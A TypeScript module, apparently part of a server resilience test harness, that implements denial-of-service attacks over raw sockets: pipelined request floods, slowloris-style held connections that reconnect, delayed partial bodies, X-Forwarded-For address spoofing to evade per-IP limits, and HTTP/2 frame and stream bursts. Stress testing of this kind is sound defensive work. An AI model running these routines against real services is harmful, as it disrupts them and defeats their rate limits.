/** The attacks, played from raw sockets in a process of their own. Each is written as its author would: it obeys backpressure, and comes again when it is thrown out. */
import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { obey } from './child.ts'
import { continueRace } from './continue-race.ts'
import { http2Burst, streamsAtOnce, tinyFrames } from './http2.ts'
import type { AttackOrder, AttackOutcome } from './orders.ts'
import { openSocket } from './sockets.ts'

const PIPELINE_BYTES = 65_536
const REOPEN_MS = 50

/** Requests without end on some connections. */
async function pipelines(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, connections, deaf = false } = order
  const block = Buffer.from(head.repeat(Math.ceil(PIPELINE_BYTES / head.length)))
  const count = { MB: 0, answers: 0, connections: 0 }
  let isOver = false
  const begin = (): void => {
    if (isOver) return
    count.connections += 1
    const socket = openSocket(port, deaf)
    const pump = (): void => {
      if (isOver) return void socket.destroy()
      socket.write(block, (error) => {
        if (error) return
        count.MB += block.length / 1e6
        pump()
      })
    }
    socket.on('connect', pump)
    socket.on('data', (data: Buffer) => (count.answers += occurrences(data)))
    if (!deaf) socket.on('end', () => socket.destroy())
    socket.on('close', () => setImmediate(begin))
  }
  for (let i = 0; i < connections; i++) begin()
  await sleep(ms)
  isOver = true
  return { ...count, MB: Math.round(count.MB) }
}

/** Requests that begin well and do not stay so: head, a wait, then the rest. */
async function brokenBodies(order: AttackOrder): Promise<AttackOutcome> {
  const { port, head, rest, connections, times = 0, ms } = order
  const outcome: Record<string, number> = {}
  const deadline = Date.now() + ms
  let left = times
  const one = async (): Promise<string> => {
    const socket = openSocket(port)
    let answer = ''
    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
    socket.on('data', (data) => {
      answer += data.toString('latin1')
      if (answer.startsWith('HTTP/1.1 1')) answer = ''
      else setTimeout(() => socket.destroy(), REOPEN_MS)
    })
    socket.write(head)
    for (let i = 0; i < (rest?.repeat ?? 0); i++) {
      await sleep(rest?.afterMs ?? 0)
      if (socket.writable) socket.write(rest?.text ?? '')
    }
    await Promise.race([closed, sleep(Math.max(deadline - Date.now(), 0))])
    socket.destroy()
    return answer === '' ? 'closed' : answer.slice(9, 12)
  }
  const lane = async (): Promise<void> => {
    while (left > 0 && Date.now() < deadline) {
      left -= 1
      const status = await one()
      outcome[status] = (outcome[status] ?? 0) + 1
    }
  }
  await Promise.all(Array.from({ length: connections }, lane))
  return outcome
}

/** Connections that say what `head` is and nothing more. Who listens notices that he is thrown out, and comes again. */
async function hold(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, connections, deaf = false } = order
  const count = { held: 0, 'thrown out': 0 }
  let isOver = false
  const sockets = new Set<Socket>()
  const begin = (): void => {
    if (isOver) return
    const socket = openSocket(port)
    sockets.add(socket)
    if (deaf) socket.pause()
    else socket.resume()
    if (head !== '') socket.write(head)
    socket.once('end', () => socket.destroy())
    socket.once('close', () => {
      sockets.delete(socket)
      if (!isOver) count['thrown out'] += 1
      setTimeout(begin, REOPEN_MS)
    })
  }
  for (let i = 0; i < connections; i++) begin()
  await sleep(ms)
  isOver = true
  count.held = sockets.size
  for (const socket of sockets) socket.destroy()
  return count
}

/** Each request names another client address, as through a trusted proxy; answers are read. */
async function addresses(order: AttackOrder): Promise<AttackOutcome> {
  const { port, ms, head, connections, times = 0 } = order
  const batch = 50
  let next = 0
  let answers = 0
  const deadline = Date.now() + ms
  const lane = async (): Promise<void> => {
    while (next < times && Date.now() < deadline) {
      const from = next
      next += batch
      let due = from
      const last = from + batch
      while (due < last && Date.now() < deadline) {
        const answered = await volley(port, head, due, last)
        answers += answered
        due += Math.max(answered, 1)
      }
    }
  }
  await Promise.all(Array.from({ length: connections }, lane))
  return { addresses: Math.min(next, times), answers }
}

/** Sends requests of the addresses `from` to `to` on one connection; how many were answered before it ended. */
function volley(port: number, head: string, from: number, to: number): Promise<number> {
  return new Promise((resolve) => {
    let answered = 0
    let text = ''
    for (let n = from; n < to; n++) {
      text += `${head}X-Forwarded-For: 10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}\r\n\r\n`
    }
    const socket = openSocket(port)
    socket.on('data', (data: Buffer) => {
      answered += occurrences(data)
      if (answered >= to - from) socket.destroy()
    })
    socket.on('end', () => socket.destroy())
    socket.once('close', () => resolve(answered))
    socket.write(text)
  })
}

/** Heads of answers that begin in these bytes; one cut by the edge of a packet is missed. */
function occurrences(data: Buffer): number {
  let count = 0
  for (let at = data.indexOf('HTTP/1.1 '); at >= 0; at = data.indexOf('HTTP/1.1 ', at + 1))
    count += 1
  return count
}

const attacks = {
  pipelines,
  brokenBodies,
  hold,
  addresses,
  continueRace,
  tinyFrames: (order: AttackOrder) => http2Burst(order, tinyFrames(order)),
  streamsAtOnce: (order: AttackOrder) => http2Burst(order, streamsAtOnce(order)),
} satisfies Record<AttackOrder['attack'], unknown>

obey<'attack.ts'>((order) => attacks[order.attack](order))
